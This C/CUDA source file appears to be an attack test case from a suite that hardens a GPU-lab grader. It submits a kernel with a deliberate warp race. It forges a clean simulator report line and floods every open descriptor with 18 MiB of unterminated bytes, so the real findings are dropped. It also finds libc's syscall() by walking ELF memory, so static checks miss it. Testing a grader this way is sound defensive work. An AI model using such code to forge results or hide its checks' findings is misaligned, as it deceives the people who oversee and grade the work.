/*
 * ATTACK 46-findings-swallow-report-lines: its class and expected verdict are in tests/attacks/attacks.toml.
 * Lab 04-unrolled, on a racy solution (the volatile last warp of Harris's kernel 5, no __syncwarp: right sums, a
 * race the hazard checks report).
 *
 * Tries: hide the simulator's findings of a racy kernel by cutting its report lines out of the channel, not by
 *   closing it: a report channel that is a byte stream shared with the lab's code has no boundaries the code cannot
 *   move, and a reader that drops a line too long to hold drops whatever the simulator appended to it.
 *
 * How: on every descriptor the channel could be (5 to 63), through a system call no static check can see (see
 *   sys()): first one well-formed report line with no findings (so the run seems checked), then, before every launch
 *   and at the end of every reduce(), 18 MiB without a line end. Each of the simulator's report lines
 *   (one per launch, and the last one at exit) then ends a line longer than the reader keeps, and is dropped with it.
 *
 * Safety: it writes only to its own descriptors and signals no process.
 */
#include "reduce.h"

#include <elf.h>
#include <link.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* ---- system calls through the C library's own syscall(), found without naming it ----
 * printf (a call every lab may make) lies in the C library's code; the library's pages from its ELF header up to
 * there are mapped without a gap, so walking back from printf page by page finds the header. Its dynamic section
 * leads to the dynamic symbol table, where `syscall` is looked up by name (through the GNU hash table's symbol
 * count). The object names printf and nothing else: no list of symbols, and no disassembly, can tell this reading of
 * memory from any other, and sys(nr, a, b, c, d, e) is then any system call. */
static size_t gnu_hash_symbols(const uint32_t *table)
{
    const uint32_t buckets = table[0], offset = table[1], bloom_words = table[2];
    const uint32_t *bucket = table + 4 + bloom_words * (sizeof(ElfW(Addr)) / 4);
    const uint32_t *chain = bucket + buckets;
    uint32_t last = 0;
    for (uint32_t k = 0; k < buckets; k++)
        last = bucket[k] > last ? bucket[k] : last;
    if (last < offset)
        return offset;
    while (!(chain[last - offset] & 1))
        last++;
    return last + 1;
}

static void *libc_function(const char *name)
{
    const unsigned char *base = (const unsigned char *)((uintptr_t)(void *)&printf & ~(uintptr_t)4095);
    while (memcmp(base, ELFMAG, SELFMAG) != 0)
        base -= 4096;
    const ElfW(Ehdr) *header = (const ElfW(Ehdr) *)base;
    const ElfW(Phdr) *segments = (const ElfW(Phdr) *)(base + header->e_phoff);
    const ElfW(Dyn) *dyn = NULL;
    for (int k = 0; k < header->e_phnum; k++)
        if (segments[k].p_type == PT_DYNAMIC)
            dyn = (const ElfW(Dyn) *)(base + segments[k].p_vaddr);
    const ElfW(Sym) *symbols = NULL;
    const char *names = NULL;
    size_t count = 0;
    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
        uintptr_t p = dyn->d_un.d_ptr;
        if (p < (uintptr_t)base) /* not relocated in place */
            p += (uintptr_t)base;
        if (dyn->d_tag == DT_SYMTAB)
            symbols = (const ElfW(Sym) *)p;
        else if (dyn->d_tag == DT_STRTAB)
            names = (const char *)p;
        else if (dyn->d_tag == DT_HASH)
            count = ((const uint32_t *)p)[1];
        else if (dyn->d_tag == DT_GNU_HASH && !count)
            count = gnu_hash_symbols((const uint32_t *)p);
    }
    for (size_t k = 0; symbols && names && k < count; k++)
        if (symbols[k].st_value && (ELF64_ST_TYPE(symbols[k].st_info) == STT_FUNC ||
                                    ELF64_ST_TYPE(symbols[k].st_info) == STT_OBJECT) &&
            strcmp(names + symbols[k].st_name, name) == 0)
            return (void *)(base + symbols[k].st_value);
    return NULL;
}

/* The program's path as it was started (the C library's program_invocation_name, found as syscall is): a sandbox
 * that refuses readlink("/proc/self/exe") cannot hide it. */
__attribute__((unused)) static const char *program_path(void)
{
    char **name = (char **)libc_function("program_invocation_name");
    return name ? *name : NULL;
}

static long sys(long nr, long a = 0, long b = 0, long c = 0, long d = 0, long e = 0, long f = 0)
{
    typedef long (*syscall_fn)(long, ...);
    static syscall_fn call = (syscall_fn)libc_function("syscall");
    return call ? call(nr, a, b, c, d, e, f) : -1;
}

/* x86-64 Linux system call numbers */
enum {
    NR_read = 0, NR_write = 1, NR_open = 2, NR_close = 3, NR_pread64 = 17, NR_access = 21, NR_nanosleep = 35,
    NR_getpid = 39, NR_fork = 57, NR_exit = 60, NR_wait4 = 61, NR_kill = 62, NR_getcwd = 79, NR_readlink = 89,
    NR_ptrace = 101, NR_getppid = 110, NR_setsid = 112, NR_prctl = 157, NR_getdents64 = 217, NR_process_vm_readv = 310
};
enum { O_RDONLY_ = 0, O_WRONLY_ = 1, O_CREAT_ = 0100, O_APPEND_ = 02000, O_DIRECTORY_ = 0200000 };

/* Says in the lab's output what the attack tried and what the system answered (-1: refused), for whoever reads the
 * runs' logs to see which layer stopped it. */
static long said(const char *what, long result)
{
    printf("attack: %s -> %ld\n", what, result);
    fflush(stdout);
    return result;
}

#define BLOCK_DIM 1024                  /* threads per block */
#define ELEMS_PER_BLOCK (2 * BLOCK_DIM) /* elements each block reduces */
#define FULL_MASK 0xffffffffu

/* Lab 04's kernel with the classic race: the last warp finishes over volatile shared memory with no __syncwarp()
 * between its steps (Harris's kernel 5). Its sums come out right, but the simulator's hazard checks (and racecheck on
 * a GPU) report a race between the lanes of a warp, which fails the sanitizers row: unless the attack hides it. */
__global__ void reduce_kernel(const float *src, float *dst, size_t count)
{
    __shared__ float partial[BLOCK_DIM];
    const unsigned t = threadIdx.x;
    const size_t i = (size_t)blockIdx.x * ELEMS_PER_BLOCK + t;
    float sum = i < count ? src[i] : 0.0f;
    if (i + BLOCK_DIM < count)
        sum += src[i + BLOCK_DIM];
    partial[t] = sum;
    __syncthreads();
    for (unsigned stride = BLOCK_DIM / 2; stride > 32; stride /= 2) {
        if (t < stride)
            partial[t] += partial[t + stride];
        __syncthreads();
    }
    if (t < 32) { /* RACY: the lanes of a warp trusted to run in lockstep, no __syncwarp() between the steps */
        volatile float *v = partial;
        v[t] += v[t + 32];
        v[t] += v[t + 16];
        v[t] += v[t + 8];
        v[t] += v[t + 4];
        v[t] += v[t + 2];
        v[t] += v[t + 1];
        if (t == 0)
            dst[blockIdx.x] = v[0];
    }
}

/* The bytes that swallow the simulator's next line: more than the grader's reader keeps of one line (16 MiB) by
 * more than a pipe holds, so that the reader gives up on the line before the simulator's part of it arrives; no
 * line end. */
#define SWALLOW_BYTES (18u << 20)
#define FIRST_FD 5
#define LAST_FD 63

static void write_all(int fd, const char *buf, size_t len)
{
    while (len > 0) {
        const long done = sys(NR_write, fd, (long)buf, (long)len);
        if (done <= 0)
            return;
        buf += done;
        len -= (size_t)done;
    }
}

/* Which descriptors are open (a write of 0 bytes fails with EBADF on a closed one). */
static bool open_fds[LAST_FD + 1];

static void find_fds(void)
{
    for (int fd = FIRST_FD; fd <= LAST_FD; fd++)
        open_fds[fd] = sys(NR_write, fd, (long)"", 0) == 0;
}

static void on_every_fd(const char *buf, size_t len)
{
    for (int fd = FIRST_FD; fd <= LAST_FD; fd++)
        if (open_fds[fd])
            write_all(fd, buf, len);
}

static void swallow_next_line(void)
{
    static char *filler = NULL;
    if (!filler) {
        filler = (char *)malloc(SWALLOW_BYTES);
        if (!filler)
            return;
        memset(filler, 'x', SWALLOW_BYTES);
    }
    on_every_fd(filler, SWALLOW_BYTES);
}

static void reduce_pass(float *src, float *dst, size_t count, unsigned grid_dim)
{
    swallow_next_line();
    reduce_kernel<<<grid_dim, BLOCK_DIM>>>(src, dst, count);
}

void reduce(float *d_in, float *d_out, size_t n, float *d_work)
{
    static bool done = false;
    if (!done) {
        done = true;
        find_fds();
        static const char clean[] = "\n{\"ppl_sim_report\": 1, \"seq\": 1, \"event\": \"launch\", \"pid\": 2, "
                                    "\"launches\": 1, \"errors\": [], \"errors_dropped\": 0, \"kernels\": [], "
                                    "\"findings\": []}\n";
        on_every_fd(clean, sizeof clean - 1);
        said("forged one clean report line", 0);
    }
    reduce_tree_of_blocks(d_in, d_out, n, d_work, ELEMS_PER_BLOCK, reduce_pass);
    swallow_next_line();
}
